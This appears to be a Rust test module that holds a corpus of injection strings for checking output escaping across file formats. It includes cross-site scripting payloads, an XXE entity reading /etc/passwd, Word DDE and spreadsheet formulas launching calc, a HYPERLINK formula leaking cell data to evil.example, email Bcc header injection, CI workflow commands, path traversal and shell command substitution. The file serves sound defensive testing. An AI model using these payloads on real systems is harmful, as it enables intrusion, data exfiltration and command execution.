//! The corpus: texts that act somewhere, if somebody takes them for more than text.
//!
//! To add one: a line below. It goes by itself through every key of every kind of file, and through every output.

use std::fmt::Write as _;

/// What stands at the end of each text, where no other place is marked.
pub(super) const PLACE: char = '¶';

/// What acts wherever it stands in a text: what it would do, and the text.
pub(super) const ANYWHERE: [(&str, &str); 45] = [
    // Terminals.
    ("clears the screen", "\u{1b}[2J\u{1b}[31mRED"),
    ("links a text", "\u{1b}]8;;http://evil.example\u{7}click\u{1b}]8;;\u{7}"),
    ("fills the clipboard", "\u{1b}]52;c;ZWNobw==\u{7}"),
    ("asks the terminal", "\u{1b}P+q544e\u{1b}\\"),
    ("controls of eight bits", "\u{9b}31m\u{9d}0;title\u{9c}"),
    ("bell, backspaces and delete", "GREEN\u{8}\u{8}\u{8}\u{8}\u{8}\u{7}\u{7f}RED"),
    ("a line that is overwritten", "RED\rGREEN"),
    ("nothing", "a\0b"),
    ("turned round", "\u{202e}gpj.exe\u{202c}"),
    ("set apart and turned round", "\u{2066}a\u{2067}b\u{2069}\u{200f}\u{61c}"),
    ("other ends of lines", "a\u{85}b\u{2028}c\u{2029}d\u{b}e\u{c}f"),
    ("a text in a text", "a\u{e0001}\u{e0065}\u{e0076}\u{e0069}\u{e006c}\u{e007f}b"),
    ("letters of no width", "a\u{200b}b\u{feff}c\u{2060}d\u{ad}e\u{200d}f"),
    ("a pile of accents", "z\u{301}\u{302}\u{303}\u{304}\u{305}\u{306}\u{307}\u{308}\u{309}\u{30a}"),
    ("letters that look like others", "Нousing Маnager"),
    ("no characters", "a\u{fffe}b\u{ffff}c\u{fdd0}d"),
    // Web pages and XML.
    ("a script", "<script>alert(1)</script>"),
    ("an attribute", "\" onmouseover=\"alert(1)\" x=\""),
    ("an attribute in single marks", "' onmouseover='alert(1)' x='"),
    ("a picture that is not there", "\"><img src=x onerror=alert(1)>"),
    ("an end of a style", "</style></title></textarea></script><svg/onload=alert(1)>"),
    ("a formula of mathematics", "<math><mtext><img src=1 onerror=alert(1)></mtext></math>"),
    ("a picture in a picture", "<svg><foreignObject><iframe src=\"http://evil.example\"/></foreignObject></svg>"),
    ("an end of what is quoted", "]]><x/><![CDATA["),
    ("a comment", "--><!-- x -- y -->"),
    ("entities", "&lt;b&gt; &#60;i&#62; &amp;lt; &nbsp; &x;"),
    ("a declaration", "<?xml version=\"1.0\"?><!DOCTYPE x [<!ENTITY x SYSTEM \"file:///etc/passwd\">]>"),
    ("a template", "{{7*7}} ${7*7} #{7*7} <%= 7*7 %>"),
    ("a field of Word", "DDEAUTO c:\\windows\\system32\\cmd.exe \"/k calc\" { INCLUDETEXT \"http://evil.example\" }"),
    ("markup of Word", "</w:t></w:r><w:r><w:instrText>DATE</w:instrText></w:r><w:r><w:t>"),
    // Markdown.
    ("a link", "[see](javascript:alert(1))"),
    ("a picture from elsewhere", "![see](http://evil.example/pixel.png)"),
    ("an address in brackets", "<http://evil.example> <evil@evil.example>"),
    ("markup in Markdown", "<details open><summary>x</summary></details><br>"),
    // Calendars and e-mails.
    ("an event", "x\nEND:VEVENT\nBEGIN:VEVENT\nATTENDEE:mailto:evil@evil.example\nATTACH:file:///etc/passwd"),
    ("marks of calendars", "a;b,c:d\\,e\\;f\\ng\"h^n"),
    (
        "letters of many bytes",
        "ééééééééééééééééééééééééééééééééééééééééééééééééééééééééééééé😀😀😀😀😀😀😀😀😀😀😀😀😀",
    ),
    ("a header", "x\nBcc: evil@evil.example\n\nbody"),
    ("a header after a return", "x\r\nBcc: evil@evil.example\r\n\r\nbody"),
    ("an address of somebody else", "\"Police\" <evil@evil.example>, other@evil.example"),
    ("a word of a header", "=?utf-8?Q?=0ABcc:_evil=40evil.example?="),
    ("a part of an e-mail", "x\n--boundary\nContent-Type: text/html\n\n<b>x</b>\n.\n"),
    // Git and its hosts.
    ("a command of GitHub in codes", "x%0A::error::y%0D%25"),
    ("a command of other hosts", "##[set-env name=x]y ##vso[task.setvariable variable=x]y"),
    ("trailers", "x\n\nCo-authored-by: Evil <evil@evil.example>\nPlan: other\nRef: 9.9"),
];

/// What acts only where it stands first.
pub(super) const AT_THE_START: [(&str, &str); 41] = [
    // Spreadsheets.
    ("a formula", "=1+1"),
    ("a formula that links", "=HYPERLINK(\"http://evil.example?\"&A1,\"see\")"),
    ("a formula that starts a program", "=cmd|'/c calc'!A1"),
    ("a formula by plus", "+1+1"),
    ("a formula by minus", "-1+1"),
    ("a formula by at", "@SUM(1+1)"),
    ("a formula after a tab", "\t=1+1"),
    ("a formula after an end of line", "\n=1+1"),
    ("a formula after a return", "\r=1+1"),
    ("a formula after a blank", " =1+1"),
    ("a formula in wide letters", "＝1+1"),
    ("a formula in the next cell", "x\",\"=1+1"),
    ("a formula in the next row", "x\n=1+1,=1+1"),
    ("a formula after a mark of text", "'=1+1"),
    ("an escape of Excel", "_x000D__x003D_1+1"),
    ("a number of another length", "1e308 0x1F 1,5 ½"),
    // Web pages and XML.
    ("a script as an address", "javascript:alert(1)"),
    ("a script as an address, hidden", " JaVa\tScript:alert(1)"),
    ("a page as an address", "data:text/html,<script>alert(1)</script>"),
    // Markdown.
    ("a link by reference", "[see][x]\n\n[x]: http://evil.example"),
    ("code", "```\ncode\n```\n`code` ~~~"),
    ("a table", "a | b\n--- | ---\nc | d"),
    ("more cells", "a | b || c \\| d \\\\| e"),
    ("a heading", "# heading\n\n## heading ##"),
    ("a heading by its underline", "heading\n===\nheading\n---"),
    ("lists and tasks", "- [x] task\n1. one\n+ two\n* three"),
    ("a quotation and a rule", "> quotation\n\n***\n\n___"),
    ("emphasis", "*a* **b** _c_ __d__ ~~e~~ $f$ ^g^ :smile: [^1]"),
    ("a backslash at the end", "¶ ends in \\"),
    ("indented", "x\n\n    code\n\n\tcode"),
    // Git and its hosts.
    ("a command of GitHub", "::set-output name=x::y"),
    ("a command of GitHub on a line of its own", "x\n::stop-commands::y\n  ::add-mask::z"),
    ("a comment of git", "# x\n# ------------------------ >8 ------------------------"),
    ("an option", "--output=evil"),
    ("a command of a host", "/close\n/assign @evil\n@everyone #1 !1"),
    // Paths and shells.
    ("a path upward", "../../../../../../../../etc/passwd"),
    ("a path of Windows", "C:\\Windows\\System32\\drivers\\etc\\hosts"),
    ("a share", "\\\\evil.example\\share\\x"),
    ("a file as an address", "file:///etc/passwd"),
    ("a name that Windows reserves", "CON"),
    ("a command of a shell", "$(touch evil) `touch evil`; touch evil | touch evil && touch evil"),
];

/// What is harmless, with everything that texts are made of: lines, paragraphs, an address.
pub(super) const HARMLESS: [&str; 6] = [
    "plain words",
    "a line\nand another\n\nand a paragraph",
    "https://wendale.example/minutes",
    "minutes/june.pdf",
    "- with a dash",
    "  after blanks",
];

/// A text with a token at its place.
pub(super) fn with_token(attack: &str, token: &str) -> String {
    match attack.split_once(PLACE) {
        Some((before, after)) => format!("{before}{token}{after}"),
        None => format!("{attack} {token}"),
    }
}

/// A text as TOML that no control character stands in.
pub(super) fn quoted(text: &str) -> String {
    let mut quoted = String::from("\"");
    for c in text.chars() {
        match c {
            '"' | '\\' => quoted.extend(['\\', c]),
            c if c.is_control() => write!(quoted, "\\u{:04x}", u32::from(c)).expect("a text takes all"),
            c => quoted.push(c),
        }
    }
    quoted + "\""
}
